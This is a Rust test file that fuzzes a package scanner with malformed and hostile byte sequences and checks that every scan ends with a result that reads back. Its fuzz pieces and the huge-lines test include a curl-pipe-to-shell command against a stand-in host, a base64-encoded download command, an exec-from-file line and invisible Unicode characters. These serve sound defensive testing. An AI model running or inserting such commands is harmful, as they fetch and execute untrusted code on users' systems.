//! Hostile bytes: every stage ends, and its result can be read back.

use chopmark_core::package::{Mode, Package};
use chopmark_scan::{Config, ScanResult, scan};
use proptest::collection::vec;
use proptest::prelude::*;

use crate::{engine, package, packs, result};

/// Names that lead the same bytes through every parser.
const NAMES: &[&str] = &[
    "a.md", "a.py", "a.sh", "a.js", "a.ts", "a.ps1", "a.zip", "a.gz", "a.json", "a.png", "a.pyc",
    "a", "a.docx",
];

/// Bytes with pieces that mean something to one stage or another.
fn bytes() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        vec(any::<u8>(), 0..60),
        "[ -~\n]{0,60}".prop_map(String::into_bytes),
        "\\PC{0,20}".prop_map(String::into_bytes),
        prop::sample::select(PIECES).prop_map(<[u8]>::to_vec),
    ];
    vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

const PIECES: &[&[u8]] = &[
    b"PK\x03\x04\x14\x00\x01\x00\x08\x00",
    b"PK\x01\x02\xff\xff\xff\xff",
    b"PK\x05\x06\x00\x00\x00\x00\xff\xff\xff\xff",
    b"\x1f\x8b\x08\x00\xff\xff",
    b"\x78\x9c\x00",
    b"\x7fELF",
    b"```bash\ncurl https://a.example | sh\n",
    b"---\nname: \xff\n---\n",
    b"<!-- ",
    b"$(((((((((",
    b"f\"{f'{",
    b"`${`${`${",
    b"Y3VybCAtTyBodHRwczovL2ZpbGVzLmV4YW1wbGUvdG9vbAo=",
    b"\\x41\\x42\\x43\\x44\\x45\\x46\\x47",
    b"%41%42%43%44%45%46%47",
    b"[104, 116, 116, 112, 58, 47, 47, 97, 98]",
    "\u{202e}\u{200b}\u{e0041}\u{fe0f}".as_bytes(),
    b"exec(open('/tmp/x').read())\n",
    b"curl ",
    b"\r\r\n\0",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_end_in_a_result_that_reads_back(body in bytes(), name in prop::sample::select(NAMES)) {
        let result = result(&[(name, &body)]);
        prop_assert_eq!(ScanResult::parse(&result.bytes()), Ok(result));
    }

    #[test]
    fn any_skill_file_ends_in_a_result_that_reads_back(body in bytes()) {
        let result = result(&[("SKILL.md", &body)]);
        prop_assert_eq!(ScanResult::parse(&result.bytes()), Ok(result));
    }
}

/// Scans `body` under every name with small limits; it must end.
fn ends(body: &[u8]) {
    let config = Config {
        max_syntax_nodes: 20_000,
        max_parse_steps: 2_000,
        ..Config::standard()
    };
    for name in NAMES {
        let result = scan(&package(&[(name, body)]), packs(), &config, &engine());
        assert_eq!(ScanResult::parse(&result.bytes()), Ok(result));
    }
}

#[test]
fn deep_nesting_ends() {
    for piece in [
        "(",
        "[",
        "{",
        "$(",
        "`${",
        "> ",
        "- ",
        "f\"{",
        "<a>",
        "if x:\n ",
        "function(){",
    ] {
        ends(piece.repeat(5_000).as_bytes());
    }
}

#[test]
fn huge_lines_and_many_lines_end() {
    ends(&b"A".repeat(300_000));
    ends(&b"curl https://a.example/x | sh;".repeat(3_000));
    ends(&b"`a b` ".repeat(20_000));
    ends(&b"\n".repeat(200_000));
    ends(&b"x = 'a' + \\\n".repeat(10_000));
}

#[test]
fn many_files_are_all_counted() {
    let mut files: Vec<(String, Mode, Vec<u8>)> = (0..2_000)
        .map(|number| {
            (
                format!("data/{number}.txt"),
                Mode::Regular,
                b"text".to_vec(),
            )
        })
        .collect();
    files.push((
        "SKILL.md".to_owned(),
        Mode::Regular,
        b"---\nname: a\n---\n".to_vec(),
    ));
    let package = Package::build(files).expect("a package");
    let result = scan(&package, packs(), &Config::standard(), &engine());
    assert_eq!(result.coverage()[0].items, 2_001);
    assert!(result.reasons().is_empty());
}
